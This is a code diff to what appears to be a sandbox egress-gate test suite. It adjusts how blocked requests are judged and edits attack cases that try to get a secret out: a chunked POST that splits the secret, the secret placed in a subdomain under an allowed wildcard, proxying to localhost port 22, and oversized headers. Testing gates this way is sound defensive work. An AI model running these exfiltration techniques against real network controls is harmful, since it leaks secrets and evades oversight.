@@ -56,7 +56,10 @@ function judgeGate(r: ExecResult, seen: Observed): Verdict {
     (st !== null && st.http >= 400) ||
     (st !== null && st.rc !== 0 && /\b4\d\d\b|CONNECT tunnel failed/.test(r.stdout + r.stderr)) ||
     (rawStatus !== undefined && rawStatus !== "none" && Number(rawStatus) >= 400) ||
-    /connect-refused/.test(r.stdout);
+    /connect-refused/.test(r.stdout) ||
+    // The gate may refuse inside the TLS handshake (e.g. an SNI that does
+    // not match the tunnel): that is a refusal when the audit recorded it.
+    (/tls-error/.test(r.stdout) && seen.audit.some((a) => a.decision === "deny"));
   const leaked = seen.upstream.length > 0;
   const layer = denyLayer(seen);
   if (leaked) return { blocked: false, layer: null, detail: "the upstream received the request" };
@@ -173,7 +176,7 @@ export function attacks(ctx: AttackContext): Attack[] {
         0,
         `a=$(printf %s "$S" | cut -c1-10); b=$(printf %s "$S" | cut -c11-)
 la=$(printf '%x' $(( $(printf %s "x=$a" | wc -c) ))); lb=$(printf '%x' $(printf %s "$b" | wc -c))
-raw ${q(hostPort)} - 300 "\\"POST / HTTP/1.1\\\\r\\\\nHost: ${hostPort}\\\\r\\\\nTransfer-Encoding: chunked\\\\r\\\\nConnection: close\\\\r\\\\n\\\\r\\\\n\\"" "\\"$la\\\\r\\\\nx=$a\\\\r\\\\n\\"" "\\"$lb\\\\r\\\\n$b\\\\r\\\\n0\\\\r\\\\n\\\\r\\\\n\\""`,
+raw ${q(hostPort)} ${q(ctx.allowedHost)} 300 "\\"POST / HTTP/1.1\\\\r\\\\nHost: ${hostPort}\\\\r\\\\nTransfer-Encoding: chunked\\\\r\\\\nConnection: close\\\\r\\\\n\\\\r\\\\n\\"" "\\"$la\\\\r\\\\nx=$a\\\\r\\\\n\\"" "\\"$lb\\\\r\\\\n$b\\\\r\\\\n0\\\\r\\\\n\\\\r\\\\n\\""`,
       ),
     ),
   );
@@ -186,8 +189,8 @@ raw ${q(hostPort)} - 300 "\\"POST / HTTP/1.1\\\\r\\\\nHost: ${hostPort}\\\\r\\\\
   list.push(sealed("4.dig-tcp", 4, "DNS over TCP", () => `dig +tcp +time=2 +tries=1 @8.8.8.8 example.com 2>&1 | head -5`));
   list.push(sealed("4.resolver", 4, "the system resolver", () => `getent hosts example.com && echo CONNECTED || echo "no answer rc=$?"`));
   list.push(
-    gate("4.crafted-subdomain", 4, "secret as a subdomain of an allowed host", "gate-dlp", (c) =>
-      withSecret(c, 3, `probe "https://$(printf %s "$S" | tr -c 'a-zA-Z0-9\\n' 'x' | cut -c1-60).${c.allowedHost}/"`),
+    gate("4.crafted-subdomain", 4, "secret as a subdomain under an allowed wildcard", "gate-dlp", (c) =>
+      withSecret(c, 3, `probe "https://$(printf %s "$S" | tr -c 'a-zA-Z0-9\\n' 'x' | cut -c1-60).${c.wildcardDomain}:${new URL(c.allowedHttpsUrl).port}/"`),
     ),
   );
 
@@ -252,10 +255,16 @@ git push ${q(c.gitRemoteUrl!)} HEAD:refs/heads/cb-escape-${i} 2>&1 | tail -5; ec
       ),
     );
     list.push(
-      gate(`7.proxy-${l.label}`, 7, `host service on ${l.label} through the gate`, "gate-policy", () => `probe http://${l.host}:${l.port}/`),
+      gate(`7.proxy-${l.label}`, 7, `host service on ${l.label} through the gate`, "gate-policy", () =>
+        // -x: NO_PROXY covers 127.0.0.1, and this attack is about the gate.
+        `probe -x ${ctx.proxy} --noproxy '' http://${l.host}:${l.port}/`,
+      ),
     );
   }
-  list.push(gate("7.proxy-localhost", 7, "localhost by name through the gate", "gate-policy", () => `probe http://localhost:22/`));
+  list.push(gate("7.proxy-localhost", 7, "localhost by name through the gate", "gate-policy", () =>
+      `probe -x ${ctx.proxy} --noproxy '' http://localhost:22/`,
+    ),
+  );
 
   // 8. The gate itself.
   const ph = `${ctx.proxy}`;
@@ -271,7 +280,7 @@ git push ${q(c.gitRemoteUrl!)} HEAD:refs/heads/cb-escape-${i} 2>&1 | tail -5; ec
   );
   list.push(
     gate("8.huge-headers", 8, "oversized headers", "gate-parser", () =>
-      `raw - - 0 ${q(JSON.stringify(`GET ${P}/ HTTP/1.1\r\nHost: ${new URL(P).host}\r\nX-Big: ${"a".repeat(200_000)}\r\n\r\n`))}`,
+      `raw - - 0 ${q(JSON.stringify(`GET ${P}/ HTTP/1.1\r\nHost: ${new URL(P).host}\r\nX-Big: ${"a".repeat(100_000)}\r\n\r\n`))}`,
     ),
   );
   list.push(
